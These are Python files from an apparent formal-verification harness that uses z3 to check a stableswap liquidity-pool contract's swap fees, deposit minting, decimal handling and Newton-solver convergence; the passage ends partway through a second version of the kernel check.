        ck.oblige('C03.swap.fees.' + tag, p, True if swf is None else z3.Or(prot != P, burned != Bn, swf != Sw), 'each fee is floor(share * gross return)', lemmas=spec)
        ck.oblige('C03.swap.others.' + tag, p, z3.Or(nf[oi] != f[oi], any(not same(e.asset, A) or e.kind not in ('send', 'burn') for e in eff)), 'only the ask asset moves; the offer-side ledger is untouched')
    ck.require(n >= 1, tag + ': no Ok path')


def deposit_shell(ck, prog, cfg, dec, first):
    kinds = KIND_CFGS[cfg]
    tag = 'provide.%s.%s.d%d_%d' % (cfg, 'first' if first else 'next', dec[0], dec[1])
    def spy_mint(it, a, c):
        it.extra['mint_args'] = [zint(deref(a[0]))] + [zint(deref(x).fields[0]) for x in a[1:6]]
        return it.run(it.prog.get(HM), list(a))
    n = 0
    for p in ck.explore(prog, provide_body(kinds, first=first, pair_type='ss', amp=amp_sym, decimals=dec), tag, stubs={HD: stub_d, HM: spy_mint}, validate=False):
        ck.sample(dict(entry='pair(stableswap).execute(provide_liquidity)', cfg=cfg, decimals=dec, first=first, outcome=p.short()))
        if not p.ok: continue
        n += 1
        st = p.extra['st']; d = p.extra['d']; b, f, S = st['b'], st['f'], st['S']
        eff = effects(resp_of(p), PAIR)
        mints = [e for e in eff if e.kind == 'mint']
        R = [b[i] - f[i] - (d[i] if kinds[i] == 'native' else 0) for i in (0, 1)]
        amp = z3.Int('amp')
        if first:
            shape = len(mints) == 2 and same(mints[0].dst, PAIR) and same(mints[1].dst, 'recv')
            D = D2(amp, d[0], d[1])
            ck.oblige('C03.deposit.first.' + tag, p, (not shape) or z3.Or(mints[0].amount != 2000, mints[1].amount != D - 2000, mints[1].amount <= 0),
                      'initial mint = D(deposit) - 2*MINIMUM_LIQUIDITY > 0, with the minimum locked in the pool itself; the deposit enters D in pool order')
            raw_args = (d[0], d[1])
        else:
            ma = p.extra.get('mint_args')
            shape = len(mints) == 1 and same(mints[0].dst, 'recv') and ma is not None
            ck.oblige('C03.deposit.shape.' + tag, p, not shape, 'one mint, to the receiver, computed by the stableswap deposit formula')
            if not shape: continue
            # candidate inputs for the native confirmation of a counterexample: an unbalanced pool, an unbalanced deposit
            nice_m = [z3.Int('b0') == 16 * 10 ** (dec[0] + 5) + (5 * 10 ** (dec[0] + 5) if kinds[0] == 'native' else 0), z3.Int('b1') == 44 * 10 ** (dec[1] + 4) + (1 if kinds[1] == 'native' else 0),
                      z3.Int('f0') == 0, z3.Int('f1') == 0, z3.Int('S') == 10 ** 12, z3.Int('amp') == 10, z3.Int('d0') == 5 * 10 ** (dec[0] + 5), z3.Int('d1') == 1]
            kwm = dict(native_pred=lambda reals, scs, kinds=kinds: deposit_mint_differs(reals, scs, kinds), nice=nice_m)
            ck.oblige('C03.deposit.args.' + tag, p, z3.Or(ma[0] != amp, ma[1] != d[0], ma[2] != d[1], ma[3] != R[0], ma[4] != R[1], ma[5] != S),
                      'the mint formula receives the deposits in POOL order (whatever order the caller listed them in), the reserves net of pending fees and of the credited deposit, and the LP supply', **kwm)
            D0 = D2(amp, R[0], R[1]); D1 = D2(amp, R[0] + d[0], R[1] + d[1]); m = mints[0].amount
            ck.oblige('C03.deposit.mint.' + tag, p, z3.Or(m * D0 > S * (D1 - D0), D1 <= D0), 'mint <= S*(D1-D0)/D0 and nothing is minted unless D grows: D per LP token never falls on deposit', **kwm)
            raw_args = (R[0], R[1])
        # the invariant must be solved over reserves expressed in one common unit (decimal-normalised)
        s0, s1 = 10 ** (18 - dec[0]), 10 ** (18 - dec[1])
        da = p.extra.get('d_args') or []
        if da and not first:
            x, y = da[0][1], da[0][2]
            big = 0 if dec[0] > dec[1] else 1          # the asset with more decimals: its raw amounts dominate the un-normalised invariant
            dn = {big: 10 ** (dec[big] + 6), 1 - big: 1}
            nice = [z3.Int('b%d' % i) == 10 ** (dec[i] + 6) + (dn[i] if kinds[i] == 'native' else 0) for i in (0, 1)] + [z3.Int('f0') == 0, z3.Int('f1') == 0, z3.Int('S') == 10 ** 12, z3.Int('amp') == 100,
                    z3.Int('d%d' % big) == 10 ** (dec[big] + 6), z3.Int('d%d' % (1 - big)) == 1]
            ck.oblige('C03.deposit.common_unit.' + tag, p, z3.And(x * (raw_args[1] * s1) != y * (raw_args[0] * s0), raw_args[0] > 0, raw_args[1] > 0),
                      'the deposit invariant is solved over RAW base units: with unequal decimals the two reserves enter D in different units, so an unbalanced deposit of the asset with more decimals '
                      'mints more LP than its proportional increase of the decimal-normalised invariant', site='compute_d over un-normalised amounts',
                      native_pred=lambda reals, scs, dec=dec, kinds=kinds: deposit_leaks(reals, scs, dec, kinds), nice=nice)
        ck.oblige('C03.deposit.no_outflow.' + tag, p, any(e.kind not in ('mint', 'pull') for e in eff), 'a deposit sends nothing out')
    ck.require(n >= 1, tag + ': no Ok path')


def d_exact(A, x, y, scale=10**9):
    """independent solution of the two-asset stableswap invariant in the convention of the code under analysis (Ann = n * amp, the curve both the
    swap solver and the deposit solver iterate towards): Ann (x+y) + D = Ann D + D^3/(4xy) with Ann = 2A: floor(D*scale) by integer bisection
    (g is strictly decreasing in D for A >= 1)."""
    x *= scale; y *= scale
    ann = 2 * A
    g = lambda D: 4 * x * y * (ann * (x + y) + D - ann * D) - D ** 3
    lo, hi = 0, 2 * (x + y) + 2
    while hi - lo > 1:
        mid = (lo + hi) // 2
        if g(mid) >= 0: lo = mid
        else: hi = mid
    return lo


def compute_d_ref(amp, a, b):
    """the integer algorithm of helpers.rs::compute_d, re-stated (used only to evaluate a counterexample on real outputs)."""
    s = a + b
    if s == 0: return 0
    d = s; ann = amp * 2
    for _ in range(256):
        dp = d * d // (a * 2); dp = dp * d // (b * 2)
        prev = d
        d = d * (dp * 2 + s * ann) // (d * (ann - 1) + dp * 3)
        if abs(d - prev) <= 1: break
    return d


def scenario_pool(sc, real, kinds):
    st = {bytes.fromhex(k).decode('latin1'): v for k, v in sc['storage']}
    amp = st['pair_info']['pair_type']['stable_swap']['amp']; f = [int(a['amount']) for a in st['collected_protocol_fees']]
    bal = [None, None]
    for i, k in enumerate(kinds):
        if k == 'native': bal[i] = [int(x[2]) for x in sc['bank'] if x[0] == PAIR and x[1] == NAMES['native'][i]][0]
        else: bal[i] = [int(r['balance']) for t, q, r in sc['smart'] if t == NAMES['cw20'][i] and 'balance' in q][0]
    S = [int(r['total_supply']) for t, q, r in sc['smart'] if t == LP and 'token_info' in q][0]
    dep = {}
    for a in sc['msg']['provide_liquidity']['assets']:
        nm = a['info'].get('native_token', {}).get('denom') or a['info']['token']['contract_addr']
        dep[nm] = int(a['amount'])
    d = [dep[aname(kinds, i)] for i in (0, 1)]
    R = [bal[i] - f[i] - (d[i] if kinds[i] == 'native' else 0) for i in (0, 1)]
    mint = None
    import base64, json as _json
    for m in real.get('response', {}).get('messages', []):
        ex = m['msg'].get('wasm', {}).get('execute')
        if not ex: continue
        inner = ex['msg']
        if isinstance(inner, str): inner = _json.loads(base64.b64decode(inner))
        if 'mint' in inner and inner['mint']['recipient'] == 'recv': mint = int(inner['mint']['amount'])
    return amp, R, d, S, mint


def deposit_mint_differs(reals, scs, kinds):
    """on the REAL contract's answer: the LP minted is not floor(S*(D1-D0)/D0) with the deposits taken in pool order."""
    real = reals[0]['result']
    if real.get('outcome') != 'ok': return False
    amp, R, d, S, mint = scenario_pool(scs[0], real, kinds)
    if mint is None or min(R) <= 0: return False
    D0 = compute_d_ref(amp, R[0], R[1]); D1 = compute_d_ref(amp, R[0] + d[0], R[1] + d[1])
    return D0 > 0 and mint != S * (D1 - D0) // D0


def deposit_leaks(reals, scs, dec, kinds):
    """on the REAL contract's answer: the LP minted exceeds S*(D1-D0)/D0 of the decimal-normalised invariant (solved independently) by more than 0.1%."""
    real = reals[0]['result']; sc = scs[0]
    if real.get('outcome') != 'ok': return False
    mint = None
    for m in real['response']['messages']:
        ex = m['msg'].get('wasm', {}).get('execute')
        if not ex: continue
        inner = ex['msg']
        if isinstance(inner, str):
            import base64, json as _json
            inner = _json.loads(base64.b64decode(inner))
        if 'mint' in inner and inner['mint']['recipient'] == 'recv': mint = int(inner['mint']['amount'])
    if mint is None: return False
    st = {bytes.fromhex(k).decode('latin1'): v for k, v in sc['storage']}
    amp = st['pair_info']['pair_type']['stable_swap']['amp']; f = [int(a['amount']) for a in st['collected_protocol_fees']]
    bal = [None, None]
    for i, k in enumerate(kinds):
        if k == 'native': bal[i] = [int(x[2]) for x in sc['bank'] if x[0] == PAIR and x[1] == NAMES['native'][i]][0]
        else: bal[i] = [int(r['balance']) for t, q, r in sc['smart'] if t == NAMES['cw20'][i] and 'balance' in q][0]
    S = [int(r['total_supply']) for t, q, r in sc['smart'] if t == LP and 'token_info' in q][0]
    dep = {}
    for a in sc['msg']['provide_liquidity']['assets']:
        nm = a['info'].get('native_token', {}).get('denom') or a['info']['token']['contract_addr']
        dep[nm] = int(a['amount'])
    d = [dep[aname(kinds, i)] for i in (0, 1)]
    R = [bal[i] - f[i] - (d[i] if kinds[i] == 'native' else 0) for i in (0, 1)]
    sc_ = [10 ** (18 - dec[i]) for i in (0, 1)]
    D0 = d_exact(amp, R[0] * sc_[0], R[1] * sc_[1], 1); D1 = d_exact(amp, (R[0] + d[0]) * sc_[0], (R[1] + d[1]) * sc_[1], 1)
    return D0 > 0 and mint * D0 * 1000 > S * (D1 - D0) * 1001


def sim_vs_exec(ck, prog, dec):
    def native_differs(reals, scs):
        q, x = reals[0]['result'], reals[1]['result']
        if q.get('outcome') != 'ok' or x.get('outcome') != 'ok': return False
        dq = (q.get('response') or {}).get('data') or {}
        at = {a['key']: a['value'] for a in x['response'].get('attributes', [])}
        return any(str(dq.get(k)) != str(at.get(k)) for k in ('return_amount', 'spread_amount', 'swap_fee_amount', 'protocol_fee_amount', 'burn_fee_amount'))
    nice = [z3.Int('b0') >= 10**(dec[0] + 5), z3.Int('b0') <= 10**(dec[0] + 7), z3.Int('b1') >= 10**(dec[1] + 5), z3.Int('b1') <= 10**(dec[1] + 7), z3.Int('f0') <= 10**dec[0], z3.Int('f1') <= 10**dec[1],
            z3.Int('offer') >= 10**(min(dec) + 2), z3.Int('amp') == 100, z3.Int('fee_protocol') == 10**15, z3.Int('fee_swap') == 2 * 10**15, z3.Int('fee_burn') == 10**15, z3.Int('S') == 10**10]
    for cfg, oi in (('nc', 0), ('nc', 1)):
        C14.pair_sim_vs_exec(ck, prog, cfg, oi, pair_type='ss', stubs={HY: stub_y}, amp=amp_sym, decimals=dec, native_pred=native_differs,
                             nice=nice + [z3.Int('offer') <= 10**(dec[oi] + 4)])


def main():
    ck = Check('C03')
    prog = ck.program('terraswap_pair', 'white_whale_std')
    decs = DECIMALS_ALL if ck.tier == 'thorough' else DECIMALS_QUICK
    for dec in decs:
        for cfg, oi in (('nc', 0), ('nc', 1)) + ((('nn', 0), ('cc', 1)) if ck.tier == 'thorough' else ()):
            swap_shell(ck, prog, cfg, oi, dec)
        deposit_shell(ck, prog, 'nc', dec, first=False)
        deposit_shell(ck, prog, 'nc', dec, first=True)
        sim_vs_exec(ck, prog, dec)
    try:
        import c03_kernel
        c03_kernel.run(ck, prog)
    except ImportError:
        ck.outside.append('loop-exit obligations of the Newton solvers not built')
    ck.bounds.update(decimals=str(decs), amp='symbolic in [1, 10^6]', widths='reserves, ledgers, offers, deposits full u128', pools='native/cw20 pair, both directions (thorough: native/native and cw20/cw20 too)')
    ck.stubs |= {'calculate_stableswap_y -> uninterpreted Y2(offer_pool, ask_pool, offer_amount, amp, precision, direction) in [0, 2^128)', 'compute_d -> uninterpreted D2(amp, a, b) in [0, 2^256)'}
    ck.outside += ['accuracy of the Newton solvers against the exact invariant (rounding dust bound), their convergence within 32 / 256 iterations, and monotonicity of proceeds in the offer: '
                   'the solvers are uninterpreted here', 'histories: each obligation is one step from an arbitrary state satisfying the ledger invariant (pending fees <= balance)']
    return ck.finish()


if __name__ == '__main__':
    sys.exit(run_main(main))
