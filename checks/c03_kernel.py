"""C03 part: loop-exit obligations of calculate_stableswap_y (the solver for the new ask reserve).
The Newton loop is not unrolled: its state at the loop header (y and the iteration counter) is made arbitrary, ONE iteration of the real MIR
is executed, and only the paths that leave the function are kept (the back edge is cut).  Whatever the number of iterations executed before,
a returned y therefore satisfies the relation proved here.  D (calculate_stableswap_d) is an arbitrary value of its type.
Decided: (1) c, b, d and pool_sum as the code computes them equal an independently written discretisation of the curve's quadratic
y^2 + (b - d) y - c = 0; (2) a returned y is within 2 base units of the positive root of that quadratic: f(y+2) > 0 and f(y-2) <= 0;
(3) leaving the loop without convergence is ConvergeError, never a value."""
import re
import z3
from engine.harness import *
from engine.models_std import SymRange

HY = 'terraswap_pair::helpers::calculate_stableswap_y'
HDD = 'terraswap_pair::helpers::calculate_stableswap_d'


def locals_of(prog):
    """debug-name -> MIR local and the loop header block of calculate_stableswap_y, read from the MIR regenerated for this run."""
    text = prog.items[HY][2]
    dbg = {}
    for m in re.finditer(r'debug (\w+) => _(\d+);', text):
        dbg.setdefault(m.group(1), int(m.group(2)))
    header = None; cur = None
    for line in text.split('\n'):
        m = re.match(r'\s*(bb\d+)(?: \(cleanup\))?: \{', line)
        if m: cur = m.group(1)
        if 'as std::iter::Iterator>::next(' in line or 'as Iterator>::next(' in line:
            header = cur; break
    return dbg, header


def run(ck, prog):
    dbg, header = locals_of(prog)
    need = ('y', 'iter', 'c', 'b', 'd', 'pool_sum')
    if header is None or any(k not in dbg for k in need):
        ck.inconclusive.append('C03 kernel: cannot locate the Newton loop of calculate_stableswap_y in the MIR (locals %r, header %r)' % ({k: dbg.get(k) for k in need}, header))
        return
    def stub_d(it, a, c):
        return OK(DEC256(it.ctx.sym('D_any', 200)))          # arbitrary invariant value (Err branch irrelevant here)
    for prec in ((6, 18) if ck.tier == 'quick' else (4, 5, 6, 8, 18)):
        scale = 10 ** (18 - prec)
        def body(it, prec=prec, scale=scale):
            c = it.ctx
            op, ap, off = c.sym('offer_pool', 128), c.sym('ask_pool', 128), c.sym('offer', 128)
            amp = c.sym('amp', 64)
            for v in (op, ap): c.assume(v >= 10 ** 6); c.assume(v < 2 ** 100)          # at least one whole token of each asset (6 decimals), up to 2^100
            c.assume(off >= 1); c.assume(off < 2 ** 100); c.assume(amp >= 1); c.assume(amp <= 10 ** 6)
            f = it.prog.get(HY)
            return it.run(f, [DEC256(op * scale), DEC256(ap * scale), DEC256(off * scale), Ref([amp], 0), prec, Enum('terraswap_pair::helpers::StableSwapDirection', 'Simulate', [])])
        la = {HY: {'header': header, 'havoc': {dbg['y']: lambda it: U256(it.ctx.sym('y_prev', 130)), dbg['iter']: lambda it: SymRange(it.ctx.sym('iter_i', 6), 32, False)},
                   'observe': [dbg['c'], dbg['b'], dbg['d'], dbg['pool_sum']]}}
        tag = 'kernel.y.p%d' % prec
        nok = nconv = 0
        for p in ck.explore(prog, body, tag, stubs={HDD: stub_d}, loop_abs=la, validate=False, feas_ms=4000):
            ck.sample(dict(fn='calculate_stableswap_y (one arbitrary iteration)', precision=prec, outcome=p.short()))
            if p.kind != 'ret':
                ck.oblige('C03.kernel.y.no_abort.p%d' % prec, p, True, 'the solver never aborts (it returns errors)', site=p.short()); continue
            if p.err:
                if err_name(p.value.fields[0]).startswith('ConvergeError'): nconv += 1
                continue
            nok += 1
            obs = p.observed.get(HY) or {}
            cc, bc, dc, xc = [deref(obs[dbg[k]]).fields[0] for k in ('c', 'b', 'd', 'pool_sum')]
            y = p.value.fields[0].fields[0]
            op, off, amp, D = z3.Int('offer_pool'), z3.Int('offer'), z3.Int('amp'), z3.Int('D_any')
            x = op + off; ann = 2 * amp
            # (1) independent discretisation of the quadratic's coefficients (hash-consed divisions: equal terms are the same constant)
            d_ref = p.div(D, scale)
            vd = ck.oblige('C03.kernel.coeff.d.p%d' % prec, p, dc != d_ref, 'the code\'s d equals floor(D / 10^(18 - precision))')
            vx = ck.oblige('C03.kernel.coeff.pool_sum.p%d' % prec, p, xc != x, 'the code\'s pool_sum equals offer reserve + offer in ask precision')
            # lemma chaining: with d and pool_sum established, the remaining coefficients are restated over the code's own d and pool_sum
            if vd == 'unsat' and vx == 'unsat':
                c_ref = p.div(p.div(dc * dc, xc * 2) * dc, ann * 2); b_ref = xc + p.div(dc, ann)
                ck.oblige('C03.kernel.coeff.c.p%d' % prec, p, cc != c_ref, 'c = floor(floor(d^2 / (2 pool_sum)) d / (2 ann)), ann = 2 amp')
                ck.oblige('C03.kernel.coeff.b.p%d' % prec, p, bc != b_ref, 'b = pool_sum + floor(d / ann)')
            # (2) the returned y brackets the positive root of f(t) = t^2 + (b - d) t - c
            f = lambda t: t * t + (bc - dc) * t - cc
            ck.oblige('C03.kernel.y.upper.p%d' % prec, p, f(y + 2) <= 0, 'the root is below y + 2: the new ask reserve is not more than 2 base units below the curve point')
            ck.oblige('C03.kernel.y.lower.p%d' % prec, p, z3.And(y >= 2, f(y - 2) > 0), 'the root is not below y - 2')
            # vacuity guards: the converged path is reachable with realistic magnitudes, and a wrong quadratic is refuted
            ck.expect_sat('C03.kernel.cover.p%d' % prec, p, z3.And(z3.Int('offer_pool') == 10 ** 12, z3.Int('ask_pool') == 10 ** 12, z3.Int('offer') == 10 ** 9, amp == 100, D == 2 * 10 ** 12 * scale, z3.Int('y_prev') > 10 ** 9))
            g = lambda t: t * t + (bc - dc) * t - (cc + 10 ** 12 * t)
            r, _, _ = ck.solve(p.conds + [z3.Or(g(y + 2) <= 0, z3.And(y >= 2, g(y - 2) > 0))])
            ck.vac['twin'] = ck.vac.get('twin', 0) + 1
            ck.require(r == z3.sat, 'twin obligation (bracket of a wrong quadratic) should be refutable (p%d)' % prec)
        ck.require(nok >= 1, tag + ': no converged path')
        ck.require(nconv >= 1, tag + ': no ConvergeError path (the loop can be left without convergence only through the error)')
    ck.bounds['kernel'] = 'calculate_stableswap_y: arbitrary loop state, one iteration, exit paths only; pools in [10^6, 2^100), offer in [1, 2^100), amp in [1, 10^6], D arbitrary in [0, 2^200), y_prev in [0, 2^130)'
    ck.stubs.add('calculate_stableswap_d -> arbitrary Decimal256 (kernel part)')
