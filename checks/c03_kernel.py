"""C03 part: loop-exit obligations of calculate_stableswap_y (the solver for the new ask reserve).
The Newton loop is not unrolled: its state at the loop header (y and the iteration counter) is made arbitrary, ONE iteration of the real MIR
is executed, and only the paths that leave the function are kept (the back edge is cut).  Whatever the number of iterations executed before,
a returned y therefore satisfies the relation proved here.  D (calculate_stableswap_d) is an arbitrary value of its type.
Decided: (1) c, b, d and pool_sum as the code computes them equal an independently written discretisation of the curve's quadratic
y^2 + (b - d) y - c = 0; (2) a returned y is within 2 base units of the positive root of that quadratic: f(y+2) > 0 and f(y-2) <= 0;
(3) leaving the loop without convergence is ConvergeError, never a value."""
import re
import z3
from engine.harness import *
from engine.models_std import SymRange

HY = 'terraswap_pair::helpers::calculate_stableswap_y'
HDD = 'terraswap_pair::helpers::calculate_stableswap_d'


def locals_of(prog):
    """debug-name -> MIR local and the loop header block of calculate_stableswap_y, read from the MIR regenerated for this run."""
    text = prog.items[HY][2]
    dbg = {}
    for m in re.finditer(r'debug (\w+) => _(\d+);', text):
        dbg.setdefault(m.group(1), int(m.group(2)))
    header = None; cur = None
    for line in text.split('\n'):
        m = re.match(r'\s*(bb\d+)(?: \(cleanup\))?: \{', line)
        if m: cur = m.group(1)
        if 'as std::iter::Iterator>::next(' in line or 'as Iterator>::next(' in line:
            header = cur; break
    return dbg, header


HD = 'terraswap_pair::helpers::compute_d'


def d_budget(ck, prog):
    """iteration budget of compute_d (the deposit invariant).  Decided on the real MIR, loop state arbitrary, one iteration (exit and back-edge
    paths): from an iterate d <= a + b, 3 (next + 1) > 2 d.  ASSUMED (Newton from above on a convex function; not decided here): the iterates
    started at a + b never exceed a + b.  Then after N iterations the iterate is still above (2/3)^N (a+b) - 3: a budget N read from the MIR that leaves this bound above the exact
    invariant of a pool inside the property's range (one whole token against 2^99 units) cannot have converged there.  That input is then run on
    the real contract and judged by the independent invariant."""
    import c03 as C03
    text = prog.items[HD][2]
    dbg = {}
    for m in re.finditer(r'debug (\w+) => _(\d+);', text): dbg.setdefault(m.group(1), int(m.group(2)))
    header = None; cur = None; budget = None
    for line in text.split('\n'):
        m = re.match(r'\s*(bb\d+)(?: \(cleanup\))?: \{', line)
        if m: cur = m.group(1)
        if ('as std::iter::Iterator>::next(' in line or 'as Iterator>::next(' in line) and header is None: header = cur
        m2 = re.search(r'Range::<\w+> \{ start: const 0_\w+, end: const ([^ }]+) \}', line)
        if m2 and budget is None:
            try:
                from engine.core import Interp, Ctx
                from engine.models_cw import World
                v = Interp(prog, Ctx(), World()).const(m2.group(1), prog.get(HD))
                budget = int(v) if isinstance(v, int) and not isinstance(v, bool) else None
            except Exception:
                budget = None
    if header is None or 'd' not in dbg or 'iter' not in dbg or budget is None:
        ck.outside.append('NOT DECIDED in this run - C03 kernel: cannot locate the Newton loop / iteration budget of compute_d in the MIR'); return
    def body(it):
        c = it.ctx
        a, b = c.sym('a', 128), c.sym('b', 128); amp = c.sym('amp', 64)
        for v in (a, b): c.assume(v >= 1); c.assume(v < 2 ** 100)
        c.assume(amp >= 1); c.assume(amp <= 10 ** 6)
        return it.run(it.prog.get(HD), [Ref([amp], 0), U128(a), U128(b)])
    def mkd(it):
        d = it.ctx.sym('d_prev', 102); it.ctx.assume(d >= 1); it.ctx.assume(d <= z3.Int('a') + z3.Int('b')); return U512(d)
    la = {HD: {'header': header, 'havoc': {dbg['d']: mkd, dbg['iter']: lambda it: SymRange(it.ctx.sym('iter_i', 9), budget, False)}, 'observe': [], 'keep_back': True, 'back_observe': [dbg['d']]}}
    dprev = z3.Int('d_prev'); ok = True; n = 0; step_sat = False; step_unknown = False
    for p in ck.explore(prog, body, 'kernel.d.step', loop_abs=la, validate=False, feas_ms=4000):
        if p.kind == 'back': dn = deref(p.value[dbg['d']]).fields[0]
        elif p.kind == 'ret' and p.value.variant == 'Some':
            dn = p.value.fields[0].fields[0]
            if is_sym(dn) and dn.eq(dprev): continue          # budget exhausted: the previous iterate is handed back
        else: continue
        n += 1
        v2 = ck.oblige('C03.kernel.d.shrink', p, 3 * (dn + 1) <= 2 * dprev, 'from an iterate of at most a + b, one iteration lowers it by less than a third (minus one unit)')
        ok = ok and v2 == 'unsat'
        # the step itself, against the documented two-coin Newton step (Ann = 2 amp): d' = d (2 dp + Ann S) / ((Ann - 1) d + 3 dp), dp = d^3 / (4 a b) by two floors
        a_, b_, amp_ = z3.Int('a'), z3.Int('b'), z3.Int('amp')
        dp = p.div(p.div(dprev * dprev, 2 * a_) * dprev, 2 * b_)
        spec = p.div(dprev * (dp * 2 + (a_ + b_) * (2 * amp_)), dprev * (2 * amp_ - 1) + dp * 3)
        r, _, _ = ck.solve(p.conds + [dn != spec], 8000)
        ck.nobl = getattr(ck, 'nobl', 0)
        step_sat = step_sat or (r == z3.sat); step_unknown = step_unknown or (r == z3.unknown)
    ck.require(n >= 2, 'kernel.d.step: expected exit and back-edge paths')
    ck.assumptions.append('compute_d budget argument: iterates started at a + b never exceed a + b (used only to select the witness input; an alarm is raised only if the real contract then leaks per the independent invariant)')
    # the Newton step differs from the documented one: judged on the real contract with a moderately unbalanced deposit (1M : 1M whole tokens, amp 10, deposit 3M : 1 unit)
    kinds = C03.KIND_CFGS['nc']
    nice_step = [z3.Int('b0') == 4 * 10 ** 12, z3.Int('b1') == 10 ** 12, z3.Int('f0') == 0, z3.Int('f1') == 0, z3.Int('S') == 2 * 10 ** 12, z3.Int('amp') == 10, z3.Int('d0') == 3 * 10 ** 12, z3.Int('d1') == 1]
    if step_unknown: ck.inconclusive.append('C03.kernel.d.step: solver gave no verdict on the step formula')
    for p in ck.explore(prog, C03.provide_body(kinds, first=False, pair_type='ss', amp=C03.amp_sym, decimals=(6, 6)), 'kernel.d.step.witness', stubs={HD: C03.stub_d}, validate=False):
        if not p.ok: continue
        ck.oblige('C03.kernel.d.step', p, z3.BoolVal(bool(step_sat)), 'one iteration of compute_d is the documented two-coin Newton step (Ann = 2 amp, d_prod by two floored divisions), for every iterate, reserves and amp',
                  native_pred=lambda reals, scs: C03.deposit_leaks(reals, scs, (6, 6), kinds), nice=nice_step)
        break
    if not ok: return
    # the budget against a pool inside the property's range: reserves 1 whole token each (6 decimals), deposit 2^99 units of asset 0 and 1 of asset 1
    A = 100; x, y = 10 ** 6 + 2 ** 99, 10 ** 6 + 1
    lower = (x + y) * 2 ** budget // 3 ** budget - 3          # the last iterate is above this
    exact = C03.d_exact(A, x, y, 1)
    insufficient = lower * 1000 > exact * 1001
    ck.bounds['kernel_d'] = 'compute_d: iteration budget %d read from the MIR; per-step bounds for a, b in [1, 2^100), amp in [1, 10^6]; budget judged on the pool (10^6 + 2^99, 10^6 + 1), amp 100' % budget
    kinds = C03.KIND_CFGS['nc']
    nice = [z3.Int('b0') == 10 ** 6 + 2 ** 99, z3.Int('b1') == 10 ** 6, z3.Int('f0') == 0, z3.Int('f1') == 0, z3.Int('S') == 2 * 10 ** 6, z3.Int('amp') == A, z3.Int('d0') == 2 ** 99, z3.Int('d1') == 1]
    for p in ck.explore(prog, C03.provide_body(kinds, first=False, pair_type='ss', amp=C03.amp_sym, decimals=(6, 6)), 'kernel.d.budget.witness', stubs={HD: C03.stub_d}, validate=False):
        if not p.ok: continue
        ck.oblige('C03.kernel.d.budget', p, z3.BoolVal(bool(insufficient)), 'the iteration budget of compute_d (%d) can reach the invariant of a pool holding one whole token against 2^99 units: '
                  '(2/3)^budget (a+b) - 3 = %d must not exceed the exact invariant %d' % (budget, lower, exact), native_pred=lambda reals, scs: C03.deposit_leaks(reals, scs, (6, 6), kinds), nice=nice)
        break


def run(ck, prog):
    d_budget(ck, prog)
    dbg, header = locals_of(prog)
    need = ('y', 'iter', 'c', 'b', 'd', 'pool_sum')
    if header is None or any(k not in dbg for k in need):
        ck.outside.append('NOT DECIDED in this run - C03 kernel: cannot locate the Newton loop of calculate_stableswap_y in the MIR (locals %r, header %r)' % ({k: dbg.get(k) for k in need}, header))
        return
    def stub_d(it, a, c):
        return OK(DEC256(it.ctx.sym('D_any', 200)))          # arbitrary invariant value (Err branch irrelevant here)
    for prec in ((6, 18) if ck.tier == 'quick' else (4, 5, 6, 8, 18)):
        scale = 10 ** (18 - prec)
        def body(it, prec=prec, scale=scale):
            c = it.ctx
            op, ap, off = c.sym('offer_pool', 128), c.sym('ask_pool', 128), c.sym('offer', 128)
            amp = c.sym('amp', 64)
            for v in (op, ap): c.assume(v >= 10 ** 6); c.assume(v < 2 ** 100)          # at least one whole token of each asset (6 decimals), up to 2^100
            c.assume(off >= 1); c.assume(off < 2 ** 100); c.assume(amp >= 1); c.assume(amp <= 10 ** 6)
            f = it.prog.get(HY)
            return it.run(f, [DEC256(op * scale), DEC256(ap * scale), DEC256(off * scale), Ref([amp], 0), prec, Enum('terraswap_pair::helpers::StableSwapDirection', 'Simulate', [])])
        la = {HY: {'header': header, 'havoc': {dbg['y']: lambda it: U256(it.ctx.sym('y_prev', 130)), dbg['iter']: lambda it: SymRange(it.ctx.sym('iter_i', 6), 32, False)},
                   'observe': [dbg['c'], dbg['b'], dbg['d'], dbg['pool_sum']]}}
        tag = 'kernel.y.p%d' % prec
        nok = nconv = 0
        for p in ck.explore(prog, body, tag, stubs={HDD: stub_d}, loop_abs=la, validate=False, feas_ms=4000):
            ck.sample(dict(fn='calculate_stableswap_y (one arbitrary iteration)', precision=prec, outcome=p.short()))
            if p.kind != 'ret':
                ck.oblige('C03.kernel.y.no_abort.p%d' % prec, p, True, 'the solver never aborts (it returns errors)', site=p.short()); continue
            if p.err:
                if err_name(p.value.fields[0]).startswith('ConvergeError'): nconv += 1
                continue
            nok += 1
            obs = p.observed.get(HY) or {}
            cc, bc, dc, xc = [deref(obs[dbg[k]]).fields[0] for k in ('c', 'b', 'd', 'pool_sum')]
            y = p.value.fields[0].fields[0]
            op, off, amp, D = z3.Int('offer_pool'), z3.Int('offer'), z3.Int('amp'), z3.Int('D_any')
            x = op + off; ann = 2 * amp
            # (1) independent discretisation of the quadratic's coefficients (hash-consed divisions: equal terms are the same constant)
            d_ref = p.div(D, scale)
            vd = ck.oblige('C03.kernel.coeff.d.p%d' % prec, p, dc != d_ref, 'the code\'s d equals floor(D / 10^(18 - precision))')
            vx = ck.oblige('C03.kernel.coeff.pool_sum.p%d' % prec, p, xc != x, 'the code\'s pool_sum equals offer reserve + offer in ask precision')
            # lemma chaining: with d and pool_sum established, the remaining coefficients are restated over the code's own d and pool_sum
            if vd == 'unsat' and vx == 'unsat':
                c_ref = p.div(p.div(dc * dc, xc * 2) * dc, ann * 2); b_ref = xc + p.div(dc, ann)
                ck.oblige('C03.kernel.coeff.c.p%d' % prec, p, cc != c_ref, 'c = floor(floor(d^2 / (2 pool_sum)) d / (2 ann)), ann = 2 amp')
                ck.oblige('C03.kernel.coeff.b.p%d' % prec, p, bc != b_ref, 'b = pool_sum + floor(d / ann)')
            # (2) the returned y brackets the positive root of f(t) = t^2 + (b - d) t - c
            f = lambda t: t * t + (bc - dc) * t - cc
            ck.oblige('C03.kernel.y.upper.p%d' % prec, p, f(y + 2) <= 0, 'the root is below y + 2: the new ask reserve is not more than 2 base units below the curve point')
            ck.oblige('C03.kernel.y.lower.p%d' % prec, p, z3.And(y >= 2, f(y - 2) > 0), 'the root is not below y - 2')
            # vacuity guards: the converged path is reachable with realistic magnitudes, and a wrong quadratic is refuted
            ck.expect_sat('C03.kernel.cover.p%d' % prec, p, z3.And(z3.Int('offer_pool') == 10 ** 12, z3.Int('ask_pool') == 10 ** 12, z3.Int('offer') == 10 ** 9, amp == 100, D == 2 * 10 ** 12 * scale, z3.Int('y_prev') > 10 ** 9))
